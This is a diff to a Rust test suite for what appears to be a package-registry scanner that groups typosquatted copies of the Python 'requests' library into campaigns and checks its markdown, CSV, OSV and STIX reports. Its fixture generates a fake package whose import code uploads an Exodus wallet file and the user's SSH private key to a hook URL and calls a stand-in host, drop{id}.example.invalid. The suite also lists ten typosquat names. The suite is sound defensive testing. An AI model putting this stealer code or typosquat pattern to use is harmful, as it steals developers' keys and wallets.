@@ -8,7 +8,15 @@ use crate::house::{House, path};
 
 /// Names that are taken for `requests`.
 const LOOKALIKES: [&str; 10] = [
-    "reqeusts", "requestss", "requets", "rrequests", "requeests", "requsts", "reqests", "requesst", "reqquests",
+    "reqeusts",
+    "requestss",
+    "requets",
+    "rrequests",
+    "requeests",
+    "requsts",
+    "reqests",
+    "requesst",
+    "reqquests",
     "reuqests",
 ];
 
@@ -27,9 +35,11 @@ fn thief(name: &str, number: usize, id: u64) -> Dist {
     let code = format!(
         "import os, requests\n# release {number}\nPLACE_{number} = '{}'\nWANTED_{number} = [os.getenv('APPDATA') + \
          '\\\\Exodus\\\\exodus.wallet', os.path.expanduser('~/.ssh/id_rsa')]\nfor each_{number} in WANTED_{number}:\n    \
-         requests.post(PLACE_{number}, files={{'f': open(each_{number}, 'rb')}})\nTIP = '{}'\n",
+         requests.post(PLACE_{number}, files={{'f': open(each_{number}, 'rb')}})\nTIP = '{}'\n\
+         requests.get('https://drop{}.example.invalid/')\n",
         hook(id),
-        wallet(id)
+        wallet(id),
+        id
     );
     Sdist::new(name, "1.0").file(&format!("{name}/__init__.py"), code).build()
 }
@@ -107,10 +117,17 @@ fn a_wave_is_opened_and_its_later_members_are_held() {
     assert_eq!(members, LOOKALIKES);
     assert!(shown["members"][9]["ties"].as_array().unwrap().contains(&"wallet".into()), "{shown:#}");
     assert_eq!(shown["members"][0]["target"], "requests");
+    for format in ["markdown", "csv", "osv", "stix"] {
+        let told = campaign(&house, &["report", &wave, "--format", format]).ok().stdout;
+        check_report(format, &told);
+    }
     let told = house.fondaco.get(&format!("/api/v1/campaigns/{wave}"), &[]).json();
     assert_eq!((told["hidden"].as_u64(), told["members"].as_array().map(Vec::len)), (Some(10), Some(0)));
     let listed = house.fondaco.get("/api/v1/campaigns", &[]).json();
-    assert_eq!((&listed["campaigns"][0]["projects"], &listed["campaigns"][0]["state"]), (&10.into(), &"open".into()));
+    assert_eq!(
+        (&listed["campaigns"][0]["projects"], &listed["campaigns"][0]["state"]),
+        (&10.into(), &"open".into())
+    );
     for page in ["/campaigns/".to_owned(), format!("/campaigns/{wave}")] {
         let page = house.fondaco.get(&page, &[]);
         assert!(page.status == 200 && page.text().contains(&wave) && !page.text().contains("reqests"));
@@ -127,6 +144,39 @@ fn a_wave_is_opened_and_its_later_members_are_held() {
     assert_eq!(send(&house, &sleeper("requests-then", 111_222_333_444_555_666)).0, 200);
     let audit = house.fondaco.admin(&["audit", "--format", "ndjson"]).ok().stdout;
     assert!(audit.contains("\"action\":\"set-campaign\"") && audit.contains("a drill"), "{audit}");
+}
+
+/// What each form of a report must have: the three thieves, and nobody called malicious who isn't.
+fn check_report(format: &str, told: &str) {
+    let json = || serde_json::from_str::<Value>(told).unwrap();
+    match format {
+        "markdown" => {
+            assert!(
+                told.contains("| malicious | requests |") && told.contains("10 files of 10 projects"),
+                "{told}"
+            );
+        }
+        "csv" => {
+            assert_eq!(told.matches("\nsha256,").count(), 10, "{told}");
+            assert_eq!(told.matches("\nproject,").count(), 10, "{told}");
+            assert!(!told.contains("discord.com"), "nobody should block that: {told}");
+            assert!(told.contains("\ndomain,drop111222333444555666.example.invalid,reqeusts,"), "{told}");
+        }
+        "osv" => {
+            let records = json();
+            assert_eq!(records.as_array().map(Vec::len), Some(3), "{told}");
+            assert_eq!(records[0]["affected"][0]["package"]["name"], "reqeusts");
+            assert_eq!(records[0]["affected"][0]["versions"][0], "1.0");
+        }
+        _ => {
+            let bundle = json();
+            let objects = bundle["objects"].as_array().unwrap();
+            let of = |kind: &str| objects.iter().filter(|one| one["type"] == kind).count();
+            assert_eq!((of("campaign"), of("relationship")), (1, of("indicator")), "{told}");
+            let pattern = |one: &&Value| one["pattern"].as_str().is_some_and(|text| text.contains("SHA-256"));
+            assert_eq!(objects.iter().filter(pattern).count(), 10, "{told}");
+        }
+    }
 }
 
 #[test]
@@ -185,7 +235,11 @@ fn what_an_analyst_decides_is_kept_by_a_running_server() {
     let (_, text) = upload(&house, &token, &sleeper("house-newest", one));
     assert!(text.contains(&format!("part of the campaign {first}")), "{text}");
     let wrong = campaign(&house, &["split", &first, "nobody", "--reason", "x"]);
-    assert!(!wrong.success() && wrong.text().contains("nobody has no file in that campaign"), "{}", wrong.text());
+    assert!(
+        !wrong.success() && wrong.text().contains("nobody has no file in that campaign"),
+        "{}",
+        wrong.text()
+    );
     let wrong = campaign(&house, &["merge", &first, &second, "--reason", "x"]);
     assert!(!wrong.success() && wrong.text().contains("there is no campaign"), "{}", wrong.text());
 }
